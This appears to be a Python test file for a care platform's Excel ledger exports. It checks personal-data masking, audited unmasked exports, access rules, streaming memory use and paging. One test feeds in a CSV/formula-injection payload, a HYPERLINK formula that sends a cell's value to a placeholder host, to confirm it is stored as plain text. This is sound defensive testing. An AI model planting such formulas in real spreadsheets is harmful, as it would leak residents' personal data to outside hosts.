"""Excel ledgers: masked by default, unmasked only for the station and audited, streamed with a
bounded memory footprint."""

import io
import tracemalloc
from datetime import datetime, timedelta, timezone

from openpyxl import load_workbook

from models import AuditLog, PointsAccount, PointsEntry, User
from server.reports import excel
from tests.builders import make_admin, make_need, make_resident, make_station, make_worker
from tests.handlers.test_platform import assert_error


def window(hours: int = 2):
    now = datetime.now(timezone.utc)
    return {"from": (now - timedelta(hours=hours)).isoformat(), "to": (now + timedelta(hours=hours)).isoformat()}


async def test_needs_ledger_masked_unless_the_station_asks_and_then_audited(client):
    station = await make_station()
    worker = await make_worker(client, station)
    resident, _ = await make_resident(client, station, name="王秀英", phone="13912345678")
    await make_need(client, resident)
    r = await client.get("/api/v1/ledgers/needs", params=window(), headers=worker.headers)
    assert r.status_code == 200 and r.headers["content-type"].startswith("application/vnd.openxmlformats")
    rows = list(load_workbook(io.BytesIO(r.content)).active.iter_rows(values_only=True))
    assert "个人信息已脱敏" in rows[0][0] and rows[1][0] == "编号"
    assert rows[2][2] == "王**" and rows[2][3] == "139****5678"
    assert await AuditLog.filter(action="ledger.export_unmasked").count() == 0
    r = await client.get("/api/v1/ledgers/needs", params={**window(), "unmasked": "true"}, headers=worker.headers)
    rows = list(load_workbook(io.BytesIO(r.content)).active.iter_rows(values_only=True))
    assert rows[2][2] == "王秀英" and rows[2][3] == "13912345678"
    audit = await AuditLog.get(action="ledger.export_unmasked")
    assert audit.actor_id == worker.id and audit.subject_id == station.id
    admin = await make_admin(client)
    assert_error(await client.get("/api/v1/ledgers/needs", params={**window(), "unmasked": "true", "station_id": station.id},
                                  headers=admin.headers), 403, "FORBIDDEN")
    assert_error(await client.get("/api/v1/ledgers/needs", params=window(), headers=resident.headers), 403, "FORBIDDEN")
    assert_error(await client.get("/api/v1/ledgers/nothing", params=window(), headers=worker.headers), 404, "NOT_FOUND")


async def test_large_export_streams_in_bounded_memory(api):
    """20 000 ledger rows: the export's peak Python memory stays far below what holding the rows
    would take (scripts/bench_export runs the same with 100 000)."""
    user = await User.create(openid="ledger-bulk")
    account = await PointsAccount.create(user_id=user.id)
    now = datetime.now(timezone.utc)
    n = 20_000
    for start in range(0, n, 5000):
        await PointsEntry.bulk_create([
            PointsEntry(account_id=account.id, amount=1, kind="bonus", idempotency_key=f"bulk-{i}", balance_after=i + 1,
                        created_at=now, reason="批量测试数据,用于验证流式导出不会把全部行读入内存")
            for i in range(start, min(n, start + 5000))
        ])
    tracemalloc.start()
    try:
        path = await excel.build(kind="points", stations=None, place="全市", start=now - timedelta(hours=1), end=now + timedelta(hours=1),
                                   unmasked=False, cipher=api.cipher, actor_id=user.id, now=now)
        _, peak = tracemalloc.get_traced_memory()
    finally:
        tracemalloc.stop()
    import os

    rows = sum(1 for _ in load_workbook(path, read_only=True).active.iter_rows(values_only=True))
    os.unlink(path)
    assert rows == n + 2  # title row, header row, data
    print(f"ledger export of {n} rows: peak traced memory {peak / 1e6:.1f} MB")
    assert peak < 40 * 1024 * 1024, f"peak {peak / 1e6:.1f} MB"


async def three_services(client):
    """A station's worker and two volunteers, 赵志愿 and 钱志愿, who served 15 + 10 and 12 minutes,
    each service confirmed: (worker, 赵, 钱)."""
    from tests.builders import make_volunteer
    from tests.handlers.care.test_stats import deliver

    station = await make_station()
    worker = await make_worker(client, station)
    v1, _ = await make_volunteer(client, station, approved_by=worker, name="赵志愿")
    v2, _ = await make_volunteer(client, station, approved_by=worker, name="钱志愿")
    for volunteer, minutes in ((v1, 15), (v1, 10), (v2, 12)):
        resident, _ = await make_resident(client, station)
        await deliver(client, worker, volunteer, await make_need(client, resident), minutes)
    return worker, v1, v2


async def test_service_records_and_volunteer_hours_ledgers(client):
    worker, v1, v2 = await three_services(client)
    r = await client.get("/api/v1/ledgers/service_records", params=window(), headers=worker.headers)
    rows = list(load_workbook(io.BytesIO(r.content)).active.iter_rows(values_only=True))
    assert rows[1][0] == "记录号" and len(rows) == 2 + 3
    assert sorted(row[6] for row in rows[2:]) == [10, 12, 15]
    assert {row[3] for row in rows[2:]} == {"赵**", "钱**"}
    r = await client.get("/api/v1/ledgers/volunteer_hours", params=window(), headers=worker.headers)
    rows = list(load_workbook(io.BytesIO(r.content)).active.iter_rows(values_only=True))
    assert [(row[1], row[2], row[3]) for row in rows[2:]] == [("赵**", 2, round(25 / 60, 2)), ("钱**", 1, round(12 / 60, 2))]


async def test_assessments_ledger_scores_masked_and_notes_only_for_the_station(client):
    from tests.handlers.care.test_assessments import HARD, MILD, assess

    station = await make_station()
    worker = await make_worker(client, station)
    _, hard_home = await make_resident(client, station, name="孙桂兰")
    _, mild_home = await make_resident(client, station, name="周建国")
    await assess(client, worker, hard_home["id"], HARD, visit_notes="卧床,子女在外地")
    await assess(client, worker, mild_home["id"], MILD)
    elsewhere = await make_station()
    other_worker = await make_worker(client, elsewhere)
    await assess(client, other_worker, (await make_resident(client, elsewhere))[1]["id"], MILD)

    r = await client.get("/api/v1/ledgers/assessments", params=window(), headers=worker.headers)
    assert r.status_code == 200, r.text
    rows = list(load_workbook(io.BytesIO(r.content)).active.iter_rows(values_only=True))
    header, data = rows[1], rows[2:]
    assert header[:5] == ("编号", "入户时间", "居民", "驿站", "问卷版本") and "走访记录" not in header
    assert header[5:11] == ("家庭结构", "收支状况", "居住环境", "疾病和残疾", "儿童及教育", "就业")
    # The hand-computed scores of tests/handlers/care/test_assessments.py, one row per visit of this station.
    assert [(row[2], row[5], row[6], row[11], row[12]) for row in data] == [
        ("孙**", 100.0, 96.67, 91.54, "特别困难"), ("周**", 30.0, 26.67, 40.39, "较困难")]
    assert header[14:16] == ("复评到期", "复评情况")
    # 特别困难 is visited again within 3 months: not due yet as of the export.
    assert [row[15] for row in data] == ["未到期", "未到期"] and data[0][14] < data[1][14]
    assert "卧床" not in str(rows)
    await assess(client, worker, hard_home["id"], MILD)  # visited again: the first visit reads so
    r = await client.get("/api/v1/ledgers/assessments", params=window(), headers=worker.headers)
    again = list(load_workbook(io.BytesIO(r.content)).active.iter_rows(values_only=True))[2:]
    assert [(row[2], row[15]) for row in again] == [("孙**", "已复评"), ("周**", "未到期"), ("孙**", "未到期")]
    r = await client.get("/api/v1/ledgers/assessments", params={**window(), "unmasked": "true"}, headers=worker.headers)
    rows = list(load_workbook(io.BytesIO(r.content)).active.iter_rows(values_only=True))
    assert rows[1][-1] == "走访记录" and rows[2][2] == "孙桂兰" and rows[2][-1] == "卧床,子女在外地"
    audit = await AuditLog.get(action="ledger.export_unmasked")
    assert audit.fields_read == ["name", "visit_notes"] and audit.detail == {"kind": "assessments"}
    # Admins see the whole city, masked.
    admin = await make_admin(client)
    r = await client.get("/api/v1/ledgers/assessments", params=window(), headers=admin.headers)
    assert len(list(load_workbook(io.BytesIO(r.content)).active.iter_rows(values_only=True))) == 2 + 4


async def test_project_kpis_ledger_lists_live_kpis_and_each_step(client):
    from tests.builders import grant, make_volunteer
    from tests.handlers.care.test_projects import qualified_organization, serve

    admin = await make_admin(client)
    station = await make_station()
    worker = await make_worker(client, station)
    volunteer, _ = await make_volunteer(client, station, approved_by=worker)
    org = await qualified_organization(name="威海市益善社工服务中心")
    await grant(volunteer, "org_staff", organization_id=org.id)
    now = datetime.now(timezone.utc)
    created = await client.post("/api/v1/admin/projects", json={
        "name": "居家清洁服务项目", "organization_id": org.id, "budget_fen": 5_000_050,
        "starts_at": (now - timedelta(days=1)).isoformat(), "ends_at": (now + timedelta(days=30)).isoformat(),
        "services": ["CLEAN_HOME"], "station_ids": [station.id]}, headers=admin.headers)
    project = created.json()
    # A project elsewhere is not in this station's ledger.
    other = await client.post("/api/v1/admin/projects", json={
        "name": "别处项目", "organization_id": org.id, "budget_fen": 100,
        "starts_at": (now - timedelta(days=1)).isoformat(), "ends_at": (now + timedelta(days=30)).isoformat(),
        "services": ["CLEAN_HOME"], "station_ids": [(await make_station()).id]}, headers=admin.headers)
    assert other.status_code == 201
    await serve(client, worker, volunteer, station, 15, 5)
    await serve(client, worker, volunteer, station, 10, 2)
    r = await client.post(f"/api/v1/admin/projects/{project['id']}/steps", json={"to": "approved", "note": "立项批复",
                          "documents": ["批复.pdf", "预算.xlsx"], "targets": {"tasks_done": 2}}, headers=admin.headers)
    assert r.status_code == 200
    kpis = (await client.get(f"/api/v1/admin/projects/{project['id']}", headers=admin.headers)).json()["kpis"]
    assert kpis["tasks_done"] == 2
    r = await client.get("/api/v1/ledgers/project_kpis", params={**window(), "station_id": station.id}, headers=admin.headers)
    assert r.status_code == 200, r.text
    rows = list(load_workbook(io.BytesIO(r.content)).active.iter_rows(values_only=True))
    assert rows[1][:7] == ("项目编号", "项目名称", "承接机构", "预算(元)", "开始", "结束", "状态")
    assert rows[2][:4] == (project["id"], "居家清洁服务项目", "威海市益善社工服务中心", 50000.5) and rows[2][6] == "立项"
    assert rows[2][7:] == (kpis["tasks"], kpis["tasks_done"], kpis["verified_hours"], kpis["on_time_rate"],
                           kpis["median_minutes_to_first_service"], kpis["average_rating"], kpis["complaints"], kpis["low_ratings"],
                           kpis["referrals_accepted"])
    steps = [row for row in rows[4:] if row[0] == project["id"]]
    assert [(s[1], s[4], s[5]) for s in steps] == [("申报", None, None), ("立项", "立项批复", "批复.pdf、预算.xlsx")]
    assert len(rows) == 2 + 1 + 1 + 1 + 2  # title, header, one project, blank, step header, two steps
    # The worker of the station gets the same ledger for their station.
    r = await client.get("/api/v1/ledgers/project_kpis", params=window(), headers=worker.headers)
    assert r.status_code == 200


async def test_points_ledger_size_check_counts_only_the_stations_entries(client, api, monkeypatch):
    from tests.builders import bulk_volunteers, give_points

    a, b = await make_station(), await make_station()
    worker_a, worker_b = await make_worker(client, a), await make_worker(client, b)
    (va,) = await bulk_volunteers(api, a, 1)
    (vb,) = await bulk_volunteers(api, b, 1)
    for _ in range(3):
        await give_points(api, va, 5)
    await give_points(api, vb, 5)
    monkeypatch.setattr(excel, "MAX_ROWS", 2)
    # Station B has one entry: the three of station A are not its export's.
    r = await client.get("/api/v1/ledgers/points", params=window(), headers=worker_b.headers)
    assert r.status_code == 200, r.text
    assert len(list(load_workbook(io.BytesIO(r.content)).active.iter_rows(values_only=True))) == 2 + 1
    assert_error(await client.get("/api/v1/ledgers/points", params=window(), headers=worker_a.headers), 413,
                 "EXPORT_TOO_LARGE")


async def test_a_reversed_service_leaves_the_records_and_hours_ledgers(client, monkeypatch):
    worker, v1, v2 = await three_services(client)
    award = await PointsEntry.get(kind="service_award", minutes=15)
    r = await client.post("/api/v1/points/reversals", json={"entry_id": award.id, "reason": "服务未实际完成"},
                          headers=worker.headers)
    assert r.status_code == 201, r.text
    # Two services are left, and the size check counts two as well.
    monkeypatch.setattr(excel, "MAX_ROWS", 2)
    r = await client.get("/api/v1/ledgers/service_records", params=window(), headers=worker.headers)
    assert r.status_code == 200, r.text
    rows = list(load_workbook(io.BytesIO(r.content)).active.iter_rows(values_only=True))
    assert sorted(row[6] for row in rows[2:]) == [10, 12]
    r = await client.get("/api/v1/ledgers/volunteer_hours", params=window(), headers=worker.headers)
    rows = list(load_workbook(io.BytesIO(r.content)).active.iter_rows(values_only=True))
    assert [(row[1], row[2], row[3]) for row in rows[2:]] == [("钱**", 1, round(12 / 60, 2)), ("赵**", 1, round(10 / 60, 2))]
    # As the volunteer's own account says.
    assert (await PointsAccount.get(user_id=v1.id)).verified_minutes == 10


async def test_text_typed_by_users_is_written_as_text_never_as_a_formula(client):
    """A service summary is the volunteer's own words; a summary beginning with '=' must reach the
    station's Excel ledger as text, or opening the file runs it (CSV/formula injection, OWASP)."""
    from tests.builders import make_task, make_volunteer, record_after
    from tests.handlers.care.test_stats import HOME

    station = await make_station()
    worker = await make_worker(client, station)
    volunteer, _ = await make_volunteer(client, station, approved_by=worker)
    resident, _ = await make_resident(client, station)
    task = await make_task(client, worker, await make_need(client, resident))
    await client.post(f"/api/v1/tasks/{task['id']}/claim", headers=volunteer.headers)
    await client.post(f"/api/v1/tasks/{task['id']}/check-in", json=HOME, headers=volunteer.headers)
    summary = '=HYPERLINK("http://example.invalid/?"&C3,"查看详情")'
    r = await record_after(client, task["id"], volunteer, 30, summary=summary)
    assert r.status_code == 200, r.text
    assert (await client.post(f"/api/v1/tasks/{task['id']}/confirm", json={}, headers=worker.headers)).status_code == 200

    r = await client.get("/api/v1/ledgers/service_records", params=window(), headers=worker.headers)
    assert r.status_code == 200, r.text
    cell = load_workbook(io.BytesIO(r.content)).active.cell(row=3, column=9)
    assert cell.value == summary and cell.data_type == "s"


async def test_a_time_beyond_what_the_calendar_holds_is_a_payload_error(client):
    """0001-01-01 at +08:00 is a day before year 1 in UTC, and 9999-12-31 late in UTC is year
    10000 in Weihai (the ledger's title shows the range in Weihai time): both were 500s."""
    worker = await make_worker(client, await make_station())
    for params in ({"from": "2026-01-01T00:00:00Z", "to": "9999-12-31T23:59:59Z"},
                   {"from": "0001-01-01T00:00:00+08:00", "to": "2027-01-01T00:00:00Z"}):
        for kind in ("needs", "project_kpis"):
            r = await client.get(f"/api/v1/ledgers/{kind}", params=params, headers=worker.headers)
            assert_error(r, 400, "VALIDATION_ERROR")
    r = await client.get("/api/v1/ledgers/needs", params={"from": "0001-01-01T08:00:00+08:00", "to": "9999-12-31T15:59:59Z"},
                         headers=worker.headers)
    assert r.status_code == 200, r.text


async def test_a_ledger_of_many_pages_has_every_row_once_in_order(client, api, monkeypatch):
    # Pages of 2 and a turn of the event loop every 3 rows: the page and turn boundaries fall
    # everywhere in 7 entries (the real sizes, 500 and 100, only change how often).
    from tests.builders import bulk_volunteers, give_points

    station = await make_station()
    worker = await make_worker(client, station)
    (volunteer,) = await bulk_volunteers(api, station, 1)
    for amount in range(1, 8):
        await give_points(api, volunteer, amount)
    monkeypatch.setattr(excel, "BATCH", 2)
    monkeypatch.setattr(excel, "YIELD_EVERY", 3)
    r = await client.get("/api/v1/ledgers/points", params=window(), headers=worker.headers)
    assert r.status_code == 200, r.text
    rows = list(load_workbook(io.BytesIO(r.content)).active.iter_rows(values_only=True))[2:]
    ids = [row[0] for row in rows]
    assert ids == sorted(ids) and len(set(ids)) == 7
    assert [row[4] for row in rows] == list(range(1, 8))
